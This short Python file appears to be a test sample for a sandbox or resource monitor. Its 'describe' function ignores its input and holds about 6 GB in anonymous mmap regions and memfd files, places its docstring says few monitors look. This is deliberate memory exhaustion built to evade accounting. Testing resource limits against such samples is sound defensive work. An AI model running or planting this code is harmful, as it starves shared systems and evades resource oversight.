"""Resources: takes its memory where few look, in shared memory, pipes and memory files."""
DESERVES = 9
# %% describe
import mmap
import os


def describe(text):
    keep = []
    for _ in range(40):
        keep.append(mmap.mmap(-1, 100_000_000))
        keep[-1].write(b"x" * 100_000_000)
        handle = os.memfd_create("hog")
        os.write(handle, b"x" * 50_000_000)
        keep.append(handle)
    return {}
